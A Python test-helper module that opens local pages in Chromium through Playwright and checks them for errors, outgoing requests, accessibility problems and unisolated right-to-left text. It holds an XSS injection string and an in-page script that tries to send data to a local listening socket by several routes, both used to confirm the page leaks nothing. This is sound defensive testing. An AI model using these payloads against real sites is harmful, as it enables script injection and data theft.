"""Open a page in Debian's Chromium and keep everything that it complains about or asks for."""

from __future__ import annotations

import select
import shutil
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

__all__ = [
    "DESK",
    "HOSTILE",
    "TABLET",
    "Browsers",
    "Seen",
    "axe_of",
    "browsers",
    "leaked",
    "unisolated",
]

FLAGS = (
    "--no-sandbox",
    "--use-gl=angle",
    "--use-angle=swiftshader",
    "--enable-unsafe-swiftshader",
)
DESK, TABLET = {"width": 1280, "height": 720}, {"width": 820, "height": 1180}
#: Closes a script, opens another, breaks out of an attribute, turns the writing round, emoji.
HOSTILE = (
    "</script><script>document.title='owned'</script>\"'><img src=x onerror=alert(2)>"
    "\u202eRTL \U0001f9e0"
)


@dataclass
class Seen:
    """A page that was opened."""

    page: Any
    noise: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def asked(self) -> list[str]:
        """Return what was asked for, without what lies in the file itself."""
        return [u for u in self.requests if not u.startswith(("data:", "blob:"))]

    def focused(self) -> str:
        """Return tag, id and name of what has the focus, for messages."""
        return self.page.evaluate(
            "(() => { const e = document.activeElement; return [e.tagName, e.id, "
            "(e.getAttribute('aria-label') || e.textContent || e.value || '').trim()"
            ".slice(0, 60)].join(' ') })()"
        )


@dataclass
class Browsers:
    """Chromium by its flags, each started once."""

    playwright: Any
    path: str
    made: dict[tuple[str, ...], Any] = field(default_factory=dict)

    @contextmanager
    def open(
        self, path: Path, *flags: str, size: dict = DESK, script: bool = True
    ) -> Iterator[Seen]:
        """Yield a page opened from its file, ready."""
        if flags not in self.made:
            self.made[flags] = self.playwright.chromium.launch(
                executable_path=self.path, args=[*FLAGS, *flags]
            )
        context = self.made[flags].new_context(viewport=size, java_script_enabled=script)
        try:
            seen = Seen(context.new_page())
            seen.page.on("console", lambda m: seen.noise.append(m.text))
            seen.page.on("pageerror", lambda e: seen.noise.append(str(e)))
            seen.page.on("dialog", lambda d: (seen.noise.append(d.message), d.dismiss()))
            seen.page.on("request", lambda r: seen.requests.append(r.url))
            seen.page.goto(path.as_uri())
            if script:
                seen.page.wait_for_selector(
                    "html[data-took], html[data-ready=failed]", timeout=120_000
                )
            yield seen
        finally:
            context.close()


@contextmanager
def browsers() -> Iterator[Browsers]:
    """Yield the browsers; skip where there is none."""
    from playwright.sync_api import sync_playwright

    path = shutil.which("chromium")
    if path is None:
        pytest.skip("there is no chromium to open the page in; apt-get install chromium")
    with sync_playwright() as running:
        found = Browsers(running, path)
        try:
            yield found
        finally:
            for one in found.made.values():
                one.close()


#: What an attacker would have the page do if a name of his were ever run as a script.
_ATTACK = """async (port) => {
  const script = document.createElement('script')
  script.textContent = "document.title = 'owned'"
  document.body.append(script)
  const there = `http://127.0.0.1:${port}/leak`
  new Image().src = there
  navigator.sendBeacon(there, 'ids')
  await fetch(there, { mode: 'no-cors' }).catch(() => {})
  const form = document.createElement('form')
  form.action = there
  document.body.append(form)
  form.submit()
  const frame = document.createElement('iframe')
  frame.src = there
  document.body.append(frame)
  await new Promise(done => setTimeout(done, 500))
}"""


def leaked(page: Any) -> bytes:
    """Attack from inside the page; return every byte that reached a listening socket.

    Chromium opens connections ahead of navigations that it then blocks, and sends nothing.
    """
    heard = b""
    with socket.create_server(("127.0.0.1", 0)) as server:
        page.evaluate(_ATTACK, server.getsockname()[1])
        while select.select([server], [], [], 0.5)[0]:
            connection, _ = server.accept()
            with connection:
                if select.select([connection], [], [], 0.5)[0]:
                    heard += connection.recv(4096)
    return heard


def axe_of(page: Any) -> list[tuple[str, str]]:
    """Return what axe finds: rule and the first element."""
    from axe_playwright_python.sync_playwright import Axe

    violations = Axe().run(page).response["violations"]
    return [(v["id"], v["nodes"][0]["html"][:200]) for v in violations]


def unisolated(page: Any) -> list[str]:
    """Return texts that turn the writing round and let it run on into words of ours.

    A right-to-left override ends at its isolate (``bdi``) or at the end of its block.
    """
    return page.evaluate(
        """(() => {
          const bad = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
          for (let node = walk.nextNode(); node; node = walk.nextNode()) {
            if (!node.textContent.includes('\\u202e')) continue
            if (node.parentElement.closest('script, style, title, bdi')) continue
            let block = node.parentElement
            while (getComputedStyle(block).display === 'inline') block = block.parentElement
            const rest = document.createRange()
            rest.setStartAfter(node)
            rest.setEnd(block, block.childNodes.length)
            if (rest.toString().trim()) bad.push(block.outerHTML.slice(0, 200))
          }
          return bad
        })()"""
    )
